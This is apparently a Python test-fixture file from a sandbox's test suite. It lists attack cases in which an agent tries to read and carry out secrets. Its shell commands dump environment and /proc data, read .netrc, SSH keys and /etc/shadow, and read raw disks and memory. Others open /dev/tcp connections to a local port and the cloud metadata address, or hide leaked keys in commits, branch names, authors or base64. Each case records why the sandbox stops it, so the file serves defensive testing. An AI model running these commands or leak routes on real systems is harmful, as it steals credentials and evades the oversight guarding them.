"""Ways to read a canary and to carry it out."""

from tasks_lib.ports import Ending
from tests.lying.stage import WORK, Lie

_COMMIT = "git add -A; git commit -qm loot"
_NOTHING = "it is not in the sandbox, so there is nothing to carry out"
_NO_NETWORK = "there is no network in the sandbox but its own loopback"

SECRETS = (
    Lie(
        "prints and commits its environment",
        f"{WORK}; env; env > src/env; cat /proc/self/environ >> src/env; {_COMMIT}",
        Ending.DONE,
        "the environment is built from nothing; ours is not inherited",
    ),
    Lie(
        "reads the environment and memory of other processes",
        f"{WORK}; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/1/root/proc/*/environ | tr '\\0' '\\n' "
        f"| tee src/loot; ls -l /proc/*/fd; {_COMMIT}",
        Ending.DONE,
        "other processes do not exist in there",
    ),
    Lie(
        "reads the orchestrator's home and state",
        f'{WORK}; cat "$HOME_OF_OURS"/.netrc "$HOME_OF_OURS"/.ssh/* "$STATE"/transcripts/* '
        f"| tee src/loot; {_COMMIT}",
        Ending.DONE,
        _NOTHING,
    ),
    Lie(
        "searches the whole machine for secrets",
        f"{WORK}; find / -xdev -name '.netrc' -o -name 'id_*' -path '*ssh*' | tee src/loot; "
        f"cat /root/.netrc ~/.netrc /etc/shadow | tee -a src/loot; {_COMMIT}",
        Ending.DONE,
        _NOTHING,
    ),
    Lie(
        "reads them through links and /proc/1/root",
        f'{WORK}; ln -s "$HOME_OF_OURS" home; cat home/.netrc "/proc/1/root$HOME_OF_OURS/.netrc" '
        f'"/proc/self/cwd/../..$HOME_OF_OURS/.netrc" > src/loot; cat src/loot; rm home; {_COMMIT}',
        Ending.DONE,
        _NOTHING,
    ),
    Lie(
        "reads devices: disks and memory",
        f"{WORK}; mknod disk b 253 0; mknod mem c 1 1; ls /dev | tee src/loot; head -c 1000000 disk mem "
        f"/dev/sda /dev/vda /dev/mem | tee -a src/loot; rm -f disk mem; {_COMMIT}",
        Ending.DONE,
        "/dev holds null, zero, random and the like; new device nodes need a capability",
    ),
    Lie(
        "asks a service on the machine's loopback",
        f'{WORK}; (exec 3<>/dev/tcp/127.0.0.1/"$PORT" && cat <&3 > src/loot); cat src/loot; {_COMMIT}',
        Ending.DONE,
        _NO_NETWORK,
    ),
    Lie(
        "asks the network: the world, the cloud's metadata, the name service",
        f"{WORK}; for to in 169.254.169.254/80 1.1.1.1/443 8.8.8.8/53; do "
        "(exec 3<>/dev/tcp/$to && echo reached) && touch src/reached && cat src/answer > src/canary; done; "
        f"getent hosts canary.example.org && touch src/resolved; ls src; {_COMMIT}",
        Ending.DONE,
        _NO_NETWORK,
    ),
    Lie(
        "carries out what it found in a commit's message, its author and a branch's name",
        f'{WORK}; loot=$(cat "$HOME_OF_OURS/.netrc"; echo "$ORCHESTRATOR_KEY"); '
        'git branch "loot-${loot//[^a-z0-9-]/-}"; '
        'git -c user.name="x $loot" commit -q --allow-empty -m "x $loot"',
        Ending.DONE,
        "nothing was found; and only the item's branch is pushed",
    ),
    Lie(
        "lets the gates do it: the repository's code reads and sends",
        'echo "cat $HOME_OF_OURS/.netrc /proc/[0-9]*/environ; env; touch $PROOF; '
        'echo > /dev/tcp/127.0.0.1/$PORT" > src/check.sh; '
        f"{WORK}; {_COMMIT}",
        Ending.DONE,
        "gates run in the same sandbox",
    ),
    *(
        Lie(
            f"carries out a secret that it got hold of: {how}",
            f"{script}; {WORK}",
            Ending.FAILED,
            "every new object is searched for the secrets that we hold, also encoded, before it is pushed",
            "a secret of the orchestrator",
            knows=True,
        )
        for how, script in (
            ("in a file", 'echo "$LEAK" > src/loot; git add -A'),
            ("encoded", 'echo "$LEAK" | base64 > src/loot; git add -A'),
            ("in a commit that is taken back", f'echo "$LEAK" > l; {_COMMIT}; git revert --no-edit HEAD >&2'),
            ("in a message", 'git commit -q --allow-empty -m "it is $LEAK"'),
            ("as an author", 'git commit -q --allow-empty --author "$LEAK <a@example.org>" -m x'),
            ("as the name of a file", 'touch "src/$LEAK"; git add -A'),
        )
    ),
)
